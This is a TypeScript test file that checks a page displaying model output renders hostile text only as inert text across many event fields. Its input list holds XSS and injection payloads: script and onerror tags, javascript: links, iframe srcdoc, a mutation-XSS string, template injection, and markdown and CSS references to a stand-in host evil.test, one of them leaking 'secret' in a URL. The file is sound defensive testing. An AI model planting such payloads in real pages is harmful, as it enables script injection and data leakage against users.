/** Text from models is hostile. Wherever a page shows text, it is text and nothing else. */

import { afterEach, expect, it } from "vitest";
import { asking, candidate } from "./events.ts";
import { drawn, Opened } from "./page.ts";

const TEXTS = [
  "<script>window.hurt = 1</script>",
  "<img src=x onerror='window.hurt = 1'>",
  "<svg onload='window.hurt = 1'><use href='https://evil.test#a'/></svg>",
  "<iframe srcdoc='<script>parent.hurt = 1</script>'></iframe>",
  "<a href='javascript:window.hurt = 1'>click</a>",
  "<style>@import url(https://evil.test)</style>",
  "<form action=//evil.test><button>go</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>",
  "![a](https://evil.test/?q=secret) [x](javascript:alert(1)) <https://evil.test>",
  "</span></div></section><h1>out</h1>",
  "&lt;b&gt; &#60;script&#62; {{constructor.constructor('hurt=1')()}}",
  "\u202Eevil\u202C \u0000\u0007 zero\u200Bwidth \uD800",
  `${"x".repeat(20_000)}`,
  `${"line\n".repeat(2_000)}`,
];
const ALLOWED = new Set(
  "ARTICLE ASIDE BUTTON CANVAS CIRCLE DD DEFS DEL DETAILS DIV DL DT FIGCAPTION FIGURE FOOTER G H3 H4 HEADER I INPUT INS KBD LABEL LI LINE MARKER OL OPTGROUP OPTION P PATH PRE RECT SEARCH SECTION SELECT SPAN STRONG SUMMARY SVG TEXTAREA UL".split(
    " ",
  ),
);

/** Only our own elements are there, and none of them can load or run anything. */
function harmless(el: HTMLElement): void {
  const names = [...el.querySelectorAll("*")].map((one) => one.tagName.toUpperCase());
  expect(names.filter((name) => !ALLOWED.has(name))).toEqual([]);
  for (const one of el.querySelectorAll("*")) {
    for (const { name } of one.attributes) {
      expect(name).not.toMatch(/^(on|href$|src$|srcset$|action$|srcdoc$)/);
    }
  }
}

let page: Opened;
afterEach(() => page.close());

it.each(TEXTS)("shows %.30j as text in every place", async (text) => {
  page = new Opened();
  const bad = candidate(text, { broken: [text] });
  const script = asking({ role: text, old: text, new: `${text} changed`, because: text })
    .add("RunStarted", { name: text, review: text })
    .add("NodeAdded", { node: "n2", role: text, op: text, value: text })
    .add("CallStarted", {
      call: "c2",
      node: "a",
      model: text,
      engine: text,
      system: text,
      prompt: text,
    })
    .add("CallDelta", { call: "c2", text })
    .add("CallDelta", { call: "c2", text, kind: "reasoning" })
    .add("CallRetrying", { call: "c2", reason: text })
    .add("Failed", { node: "l", message: text, hint: text, error: text })
    .add("Notice", { message: text })
    .add("CallStarted", {
      call: "c3",
      node: "q",
      purpose: "proposal",
      prompt: `${text}</A-abcdef>`,
    })
    .add("CallDelta", { call: "c3", text: `<A-abcdef>${text}` })
    .add("Scored", { name: text })
    .add("StepCommitted", { changes: [{ node: "a", old: text, new: `${text}!`, version: 2 }] })
    .add("ProposalMade", { proposal: "p2", candidates: [bad, bad] })
    .add("ProposalMade", { proposal: "p3", old: text, candidates: [candidate("all new")] })
    .add("ReviewOpened", { review: "r2", proposals: ["p1", "p2", "p3"] })
    .add("CriticismAsked", { ask: "k2", node: "a", instruction: text })
    .add("CriticismGiven", { ask: "k2", text, by: text })
    .add("CriticismAsked", { ask: "k3", node: "a", instruction: text });
  await page.tell(script);
  for (const card of page.el.querySelectorAll<HTMLElement>(".tgw-card-open")) {
    card.click();
    await drawn();
    for (const one of page.el.querySelectorAll("details")) one.open = true;
    await drawn();
    harmless(page.el);
  }
  page.key("Escape");
  page.key("e");
  await drawn();
  harmless(page.el);
  expect((window as unknown as { hurt?: number }).hurt).toBeUndefined();
});
